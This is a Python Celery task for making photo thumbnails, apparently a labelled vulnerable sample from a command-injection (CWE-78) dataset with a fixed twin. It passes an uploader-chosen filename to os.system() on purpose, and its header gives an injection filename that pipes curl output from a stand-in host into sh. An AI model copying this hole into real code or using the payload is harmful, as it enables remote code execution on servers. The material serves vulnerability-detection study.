# ---
# id: cwe78-r2-thumbnail-task-v
# cwe: CWE-78
# vulnerable: true
# twin: cwe78-r2-thumbnail-task-f
# tags: celery, imagemagick, os
# explanation: A Celery task makes thumbnails of uploaded photos with ImageMagick via os.system(). The output name is built from the upload's original filename, which the uploader chooses, and the whole command string goes to the shell, so a filename containing a single quote, such as x';curl host|sh;'.jpg, closes the quoting and executes commands on the worker.
# ---
import logging
import os
from pathlib import Path

from celery import Celery

app = Celery("media", broker=os.environ.get("BROKER_URL", "redis://localhost:6379/0"))
log = logging.getLogger("media.thumbs")

MEDIA_ROOT = Path("/var/lib/media")
SIZES = {"small": "160x160", "medium": "480x480", "large": "1024x1024"}


def stored_path(upload_id: int) -> Path:
    return MEDIA_ROOT / "originals" / f"{upload_id:08d}"


def thumb_dir(upload_id: int) -> Path:
    path = MEDIA_ROOT / "thumbs" / f"{upload_id % 256:02x}"
    path.mkdir(parents=True, exist_ok=True)
    return path


@app.task(bind=True, max_retries=2)
def make_thumbnails(self, upload_id: int, original_name: str) -> dict:
    src = stored_path(upload_id)
    if not src.exists():
        log.error("upload %s missing on disk", upload_id)
        return {}
    stem = Path(original_name).stem or "image"
    made = {}
    for label, geometry in SIZES.items():
        out = thumb_dir(upload_id) / f"{upload_id}-{stem}-{label}.jpg"
        status = os.system(f"convert {src} -thumbnail {geometry} -strip -quality 82 '{out}'")  #@vuln
        if status != 0:
            log.warning("convert failed for %s (%s): %s", upload_id, label, status)
            raise self.retry(countdown=30)
        made[label] = str(out.relative_to(MEDIA_ROOT))
    log.info("thumbnails for %s: %s", upload_id, ", ".join(made))
    return made
